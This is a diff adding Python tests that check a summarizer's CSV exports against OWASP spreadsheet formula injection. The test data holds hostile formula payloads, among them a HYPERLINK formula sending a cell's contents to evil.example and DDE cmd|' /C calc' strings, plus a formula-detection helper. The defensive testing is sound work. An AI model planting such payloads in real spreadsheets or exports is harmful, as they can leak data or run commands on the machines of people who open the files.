@@ -22,6 +22,7 @@ from summarizer.export import (
     ExportFormat,
     export,
     interaction,
+    spreadsheet_safe,
 )
 from summarizer.schema import ArticleAnalysis
 
@@ -237,3 +238,68 @@ def test_export_refuses_bad_records(
     assert "Traceback" not in result.output
     lines = result.stderr.strip().splitlines()
     assert len(lines) == 1 and lines[0].startswith("error: ") and needle in lines[0], lines
+
+
+# Cells a spreadsheet would run (OWASP CSV injection), planted in a record's text fields.
+FORMULAS = {
+    "id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "title": "+1+cmd|' /C calc'!A0",
+    "source": ' "=1+1',  # after leading whitespace and a quote
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "target": "\t=1+1",
+    "place": "\r=1+1",
+}
+
+
+def _runs_as_formula(cell: str) -> bool:
+    """OWASP: a cell starting with = + - @ (after any whitespace or quotes), a tab or a CR."""
+    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n\"'")[:1] in ("=", "+", "-", "@")
+
+
+@pytest.mark.parametrize("fmt", [ExportFormat.acled_csv, ExportFormat.csv])
+def test_csv_exports_neutralise_formulas(
+    records: list[ArticleAnalysis], tmp_path: Path, fmt: ExportFormat
+) -> None:
+    record = records[0]
+    record.article.id, record.article.title = FORMULAS["id"], FORMULAS["title"]
+    record.article.source = FORMULAS["source"]
+    event = record.events[0]
+    event.summary = FORMULAS["summary"]
+    event.actors[0].name, event.targets[0].name = FORMULAS["actor"], FORMULAS["target"]
+    event.location.text = FORMULAS["place"]
+    path = tmp_path / "events.csv"
+    export(records, fmt, path)
+    with path.open(encoding="utf-8", newline="") as f:
+        table = list(csv.DictReader(f))
+    cells = [c for row in table for c in row.values()]
+    assert not [c for c in cells if _runs_as_formula(c) and not c.startswith("'")]
+
+    # The only change is the leading quote; numeric columns keep their numbers.
+    row = table[0]
+    acled = fmt is ExportFormat.acled_csv
+    planted = {
+        "event_id_cnty" if acled else "article_id": FORMULAS["id"] + ("-e1" if acled else ""),
+        "source": FORMULAS["source"],
+        "notes" if acled else "summary": FORMULAS["summary"],
+        "actor1" if acled else "actors": FORMULAS["actor"],
+        "location": FORMULAS["place"],
+    } | ({} if acled else {"title": FORMULAS["title"]})
+    for column, value in planted.items():
+        assert row[column] == "'" + value, column
+    assert row["actor2" if acled else "targets"].startswith("'" + FORMULAS["target"])
+    for column in ("fatalities", "iso", "timestamp") if acled else ("fatalities_min",):
+        assert int(row[column]) >= 0, column
+    assert [r["notes" if acled else "summary"] for r in table[1:]] == [
+        e.summary for r in records for e in r.events
+    ][1:]  # ordinary text is untouched
+
+
+def test_spreadsheet_safe_keeps_numbers() -> None:
+    assert spreadsheet_safe(-33.9) == -33.9 and spreadsheet_safe(-4) == -4
+    assert [spreadsheet_safe(s) for s in ("-33.9", "+4", "-1e-3", "12:40")] == [
+        "-33.9", "+4", "-1e-3", "12:40",
+    ]  # fmt: skip
+    assert [spreadsheet_safe(s) for s in ("-1+1", "- 5", "@A1", " =1", "'=1", "\tx")] == [
+        "'-1+1", "'- 5", "'@A1", "' =1", "''=1", "'\tx",
+    ]  # fmt: skip
